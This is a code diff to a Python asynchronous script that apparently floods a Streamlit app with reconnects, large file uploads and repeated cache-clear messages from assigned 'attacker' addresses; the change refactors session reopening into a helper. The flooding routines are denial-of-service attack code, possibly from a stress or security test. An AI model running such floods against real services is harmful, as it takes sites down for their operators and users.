@@ -357,6 +357,19 @@ async def reconnect_flood(url: str, until: float, room: Tally, strokes: list, ou
             await client.close()
 
 
+async def open_session(client: StreamlitClient | None, url: str, out: dict) -> StreamlitClient:
+    """``client`` if it is still connected, else a new session on Join from the attacker's address."""
+    if client is not None and not client.closed:
+        return client
+    if client is not None:
+        await client.close()
+    client = StreamlitClient(url, "join", local_addr=out["address"])
+    await client.connect(timeout=30)
+    await client.rerun(timeout=60)
+    out["sessions"] += 1
+    return client
+
+
 async def upload_flood(url: str, until: float, size_mb: float, out: dict) -> None:
     """Large files PUT to its own session's upload URL, one after another, as fast as accepted."""
     out.update(address=ATTACKER_ADDRESSES["upload_flood"], file_mb=size_mb, accepted_mb=0.0, refused_mb=0.0,
@@ -366,13 +379,7 @@ async def upload_flood(url: str, until: float, size_mb: float, out: dict) -> Non
     try:
         while time.monotonic() < until:
             try:
-                if client is None or client.closed:
-                    if client is not None:
-                        await client.close()
-                    client = StreamlitClient(url, "join", local_addr=out["address"])
-                    await client.connect(timeout=30)
-                    await client.rerun(timeout=60)
-                    out["sessions"] += 1
+                client = await open_session(client, url, out)
                 body, content_type = multipart(data, f"{uuid.uuid4().hex[:8]}.png", "image/png")
                 headers = {"Content-Type": content_type}
                 if client.xsrf:
@@ -405,13 +412,7 @@ async def clear_cache_loop(url: str, until: float, out: dict) -> None:
     try:
         while time.monotonic() < until:
             try:
-                if client is None or client.closed:
-                    if client is not None:
-                        await client.close()
-                    client = StreamlitClient(url, "join", local_addr=out["address"])
-                    await client.connect(timeout=30)
-                    await client.rerun(timeout=60)
-                    out["sessions"] += 1
+                client = await open_session(client, url, out)
                 back = BackMsg()
                 back.clear_cache = True
                 await client.send_back(back)
